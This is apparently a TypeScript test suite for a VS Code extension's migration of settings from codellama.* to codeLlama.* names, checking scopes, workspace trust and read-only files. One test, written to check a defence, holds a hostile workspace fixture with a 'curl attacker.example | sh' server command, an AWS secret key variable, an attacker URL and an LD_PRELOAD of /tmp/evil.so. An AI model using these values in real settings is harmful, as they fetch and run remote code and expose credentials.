import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  type Inspected,
  type SettingsStore,
  type Target,
  fallbackGetter,
  migrateSettings,
  migrationMessage,
  renamedKeys,
} from '../rename';

/**
 * VS Code's settings files as plain objects, one per scope (User, the workspace, each folder of a multi-root
 * workspace), with `inspect`/`update` as the extension uses them. `readOnly` scopes reject writes, as VS Code does
 * for a settings file it cannot write. (A stand-in for VS Code's configuration service, which needs a running
 * VS Code: the e2e test in tests/test_editors_vscode.py drives the real one.)
 */
class FakeSettings implements SettingsStore {
  files: Record<string, Record<string, unknown>> = { global: {}, workspace: {} };
  writes: string[] = [];
  constructor(private readonly readOnly: string[] = []) {}
  private file(target: Target, folder?: string): Record<string, unknown> {
    const name = target === 'workspaceFolder' ? `folder:${folder}` : target;
    return (this.files[name] ??= {});
  }
  inspect(section: string, key: string, folder?: string): Inspected {
    const full = `${section}.${key}`;
    return {
      globalValue: this.files.global[full],
      workspaceValue: this.files.workspace[full],
      workspaceFolderValue: folder ? this.file('workspaceFolder', folder)[full] : undefined,
    };
  }
  async update(section: string, key: string, value: unknown, target: Target, folder?: string): Promise<void> {
    const name = target === 'workspaceFolder' ? `folder:${folder}` : target;
    if (this.readOnly.includes(name)) throw new Error(`Unable to write into ${name} settings: the file is read-only`);
    this.writes.push(`${name} ${section}.${key}`);
    const file = this.file(target, folder);
    if (value === undefined) delete file[`${section}.${key}`];
    else file[`${section}.${key}`] = value;
  }
}

const manifest = JSON.parse(readFileSync(join(__dirname, '..', '..', 'package.json'), 'utf8')) as {
  contributes: { configuration: { properties: Record<string, { scope?: string; deprecationMessage?: string }> } };
  capabilities: { untrustedWorkspaces: { restrictedConfigurations: string[] } };
};
const KEYS = renamedKeys(manifest.contributes.configuration.properties);

test('rename: every setting is codeLlama.*, its old name registered alike (hidden, same scope, same restriction)', () => {
  const props = manifest.contributes.configuration.properties;
  assert.ok(KEYS.length >= 30);
  const restricted = new Set(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations);
  for (const { key, scope } of KEYS) {
    const old = props[`codellama.${key}`];
    assert.ok(old?.deprecationMessage?.includes(`codeLlama.${key}`), key);
    assert.equal(old.scope ?? 'window', scope, key);
    assert.equal(restricted.has(`codellama.${key}`), restricted.has(`codeLlama.${key}`), key);
  }
  assert.deepEqual(Object.keys(props).filter((k) => !k.startsWith('codeLlama.') && !k.startsWith('codellama.')), []);
});

test('rename: each scope keeps its own value; a workspace value stays in the workspace', async () => {
  const s = new FakeSettings();
  s.files.global = { 'codellama.model': '/models/user.gguf', 'codellama.maxTokens': 32 };
  s.files.workspace = { 'codellama.maxTokens': 48, 'codellama.enabledLanguages': { python: false } };
  s.files['folder:file:///a'] = { 'codellama.temperature': 0.2 };
  const report = await migrateSettings(s, KEYS, { trusted: true, folders: ['file:///a'] });
  assert.deepEqual(s.files.global, { 'codeLlama.model': '/models/user.gguf', 'codeLlama.maxTokens': 32 });
  assert.deepEqual(s.files.workspace, { 'codeLlama.maxTokens': 48, 'codeLlama.enabledLanguages': { python: false } });
  assert.deepEqual(s.files['folder:file:///a'], { 'codeLlama.temperature': 0.2 });
  assert.equal(report.moved.length, 5);
  assert.deepEqual(report.failed, []);
  const message = migrationMessage(report) ?? '';
  assert.match(message, /codellama\.model \(User\)/);
  assert.match(message, /codellama\.maxTokens \(User\)/);
  assert.match(message, /codellama\.maxTokens \(Workspace\)/);
  assert.match(message, /codellama\.temperature \(Folder\)/);
  // a second start finds nothing: no message
  const again = await migrateSettings(s, KEYS, { trusted: true, folders: ['file:///a'] });
  assert.equal(migrationMessage(again), undefined);
});

test('rename: a workspace never gets a machine setting moved into effect, nor into User settings', async () => {
  const s = new FakeSettings();
  // a hostile repository's .vscode/settings.json under the OLD names
  const hostile = {
    'codellama.url': 'http://attacker.example:8080',
    'codellama.apiKeyEnv': 'AWS_SECRET_ACCESS_KEY',
    'codellama.engine': 'openai',
    'codellama.server.command': ['sh', '-c', 'curl attacker.example | sh'],
    'codellama.server.env': { LD_PRELOAD: '/tmp/evil.so' },
    'codellama.gpuLayers': 99,
  };
  s.files.workspace = { ...hostile };
  const report = await migrateSettings(s, KEYS, { trusted: true });
  assert.deepEqual(s.files.workspace, hostile, 'the repository file is left as it was');
  assert.deepEqual(s.files.global, {});
  assert.deepEqual(report, { moved: [], failed: [] });
  assert.deepEqual(s.writes, []);
});

test('rename: an untrusted workspace is left alone (moved once trust is granted); User values move', async () => {
  const s = new FakeSettings();
  s.files.global = { 'codellama.enable': false };
  s.files.workspace = { 'codellama.model': '/tmp/evil.gguf', 'codellama.maxTokens': 48 };
  await migrateSettings(s, KEYS, { trusted: false });
  assert.deepEqual(s.files.global, { 'codeLlama.enable': false });
  assert.deepEqual(s.files.workspace, { 'codellama.model': '/tmp/evil.gguf', 'codellama.maxTokens': 48 });
  // trust granted: the workspace's own values move, in the workspace (model is machine-overridable: VS Code lets a
  // trusted workspace set it, under either name, so moving it changes nothing about what takes effect)
  await migrateSettings(s, KEYS, { trusted: true });
  assert.deepEqual(s.files.workspace, { 'codeLlama.model': '/tmp/evil.gguf', 'codeLlama.maxTokens': 48 });
  assert.deepEqual(s.files.global, { 'codeLlama.enable': false });
});

test('rename: a newer value under the new name wins; the old one is only removed', async () => {
  const s = new FakeSettings();
  s.files.global = { 'codellama.maxTokens': 32, 'codeLlama.maxTokens': 100 };
  const report = await migrateSettings(s, KEYS, { trusted: true });
  assert.deepEqual(s.files.global, { 'codeLlama.maxTokens': 100 });
  assert.deepEqual(report.moved, [{ key: 'maxTokens', target: 'global', folder: undefined, moved: false }]);
});

test('rename: a read-only settings file keeps the old value, which is still read', async () => {
  const s = new FakeSettings(['global']);
  s.files.global = { 'codellama.maxTokens': 32, 'codellama.server.pythonPath': '/venv/bin/python' };
  const report = await migrateSettings(s, KEYS, { trusted: true });
  assert.equal(report.failed.length, 2);
  assert.match(migrationMessage(report) ?? '', /Could not move .*codellama\.maxTokens \(User\).*still used/);
  const view = (section: string) => () => ({
    get: (key: string) => s.inspect(section, key).globalValue ?? (key === 'maxTokens' ? 64 : undefined),
    inspect: (key: string) => s.inspect(section, key),
  });
  const get = fallbackGetter(view('codeLlama'), view('codellama'));
  assert.equal(get('maxTokens'), 32, 'the old value, not the default');
  assert.equal(get('server.pythonPath'), '/venv/bin/python');
  assert.equal(get('temperature'), undefined);
  s.files.global['codeLlama.maxTokens'] = 16;
  assert.equal(get('maxTokens'), 16, 'a value under the new name wins');
  s.files.global = {};
  assert.equal(get('maxTokens'), 64, 'the default');
});
